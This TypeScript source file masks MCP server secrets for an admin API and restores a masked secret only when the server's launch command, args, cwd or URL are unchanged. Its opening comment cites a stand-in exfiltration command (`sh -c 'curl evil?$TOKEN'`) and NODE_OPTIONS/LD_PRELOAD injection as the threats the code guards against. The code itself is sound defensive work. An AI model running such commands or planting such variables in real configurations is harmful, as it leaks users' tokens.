// The secrets of the mcpServers setting (env and header values) as the admin API shows and takes
// them: masked going out, and a mask coming back kept only where the secret was given. A kept
// secret never follows its server elsewhere: a save that changed github's command to
// `sh -c 'curl evil?$TOKEN'`, or only added NODE_OPTIONS=--require evil.cjs, must not take
// GITHUB_TOKEN with it.
import { type McpServerConfig, type McpServers, serverPath } from '../../contract/mcp-servers.ts';
import { MASKED_SECRET } from '../../contract/net-policy.ts';

const maskValues = (values: Record<string, string>) =>
  Object.fromEntries(Object.keys(values).map((name) => [name, MASKED_SECRET]));

/** The servers with every env and header value masked; names, commands, args and URLs shown. */
export function maskMcpServers(servers: McpServers): McpServers {
  return Object.fromEntries(
    Object.entries(servers).map(([name, config]) => [name, maskConfig(config)]),
  );
}

function maskConfig(config: McpServerConfig): McpServerConfig {
  if ('command' in config) return config.env ? { ...config, env: maskValues(config.env) } : config;
  return config.headers ? { ...config, headers: maskValues(config.headers) } : config;
}

/**
 * `servers` with each masked value put back from `current`, where the server keeps its name and
 * everything it is started or reached with but the masked values: command, args, cwd and the other
 * env values (stdio), or URL and the other header values (HTTP). Else each mask is a problem
 * telling the user to type the values: a kept token must not start beside an added NODE_OPTIONS,
 * PATH or LD_PRELOAD, in another folder, or go to another tenant's path on the same host.
 */
export function unmaskMcpServers(
  servers: McpServers,
  current: McpServers,
): { servers: McpServers; problems: string[] } {
  const problems: string[] = [];
  const unmasked = Object.entries(servers).map(([name, config]) => {
    const saved = Object.hasOwn(current, name) ? current[name] : undefined;
    const field = 'command' in config ? 'env' : 'headers';
    const values = 'command' in config ? config.env : config.headers;
    const masked = Object.keys(values ?? {}).filter((key) => values?.[key] === MASKED_SECRET);
    if (!values || masked.length === 0) return [name, config];
    const kept = keptValues(config, saved);
    if (!kept) {
      problems.push(noValueToKeep(name, field, masked));
      return [name, config];
    }
    const filled = Object.fromEntries(
      Object.entries(values).map(([key, value]) => [
        key,
        value === MASKED_SECRET ? kept(key) : value,
      ]),
    );
    return [name, { ...config, [field]: filled }];
  });
  return { servers: Object.fromEntries(unmasked), problems };
}

/** A saved value by its key, given only once the whole launch was found unchanged. */
type Kept = (key: string) => string;

/** The saved values, where `config` starts or reaches its server as `saved` did but for masks. */
function keptValues(config: McpServerConfig, saved: McpServerConfig | undefined): Kept | undefined {
  if ('command' in config) {
    if (!saved || !('command' in saved) || !saved.env || !config.env) return undefined;
    const sameLaunch =
      saved.command === config.command &&
      JSON.stringify(saved.args ?? []) === JSON.stringify(config.args ?? []) &&
      saved.cwd === config.cwd;
    return sameLaunch ? sameValues(config.env, saved.env, (key) => key) : undefined;
  }
  if (!saved || !('url' in saved) || !saved.headers || !config.headers) return undefined;
  const place = placeOf(saved.url);
  if (place === undefined || place !== placeOf(config.url)) return undefined;
  // Header names are case-insensitive, as for netHeaders.
  return sameValues(config.headers, saved.headers, (key) => key.toLowerCase());
}

/**
 * A lookup of `saved`'s values when `sent` has exactly its keys (as `fold` compares them) and each
 * value not masked is the saved one.
 */
function sameValues(
  sent: Record<string, string>,
  saved: Record<string, string>,
  fold: (key: string) => string,
): Kept | undefined {
  const byKey = new Map(Object.entries(saved).map(([key, value]) => [fold(key), value]));
  const keys = new Set(Object.keys(sent).map(fold));
  if (keys.size !== byKey.size || [...keys].some((key) => !byKey.has(key))) return undefined;
  const unchanged = Object.entries(sent).every(
    ([key, value]) => value === MASKED_SECRET || value === byKey.get(fold(key)),
  );
  return unchanged ? (key) => byKey.get(fold(key)) ?? '' : undefined;
}

/** Where a URL sends its requests: origin, path and query (hosted gateways name tenants there). */
function placeOf(url: string): string | undefined {
  try {
    const { origin, pathname, search } = new URL(url);
    return `${origin}${pathname}${search}`;
  } catch {
    return undefined;
  }
}

function noValueToKeep(name: string, field: 'env' | 'headers', keys: string[]): string {
  const launch =
    field === 'env'
      ? 'variable, command, args, cwd and other env values'
      : 'header, URL (origin, path and query) and other header values';
  const which = keys.map((key) => JSON.stringify(key)).join(', ');
  const one = keys.length === 1;
  return `mcpServers: ${serverPath(name)}.${field} ${which} ${one ? 'has' : 'have'} no value to keep (a saved value stays with the server name, ${launch} it was given for): type ${one ? 'it' : 'them'}`;
}
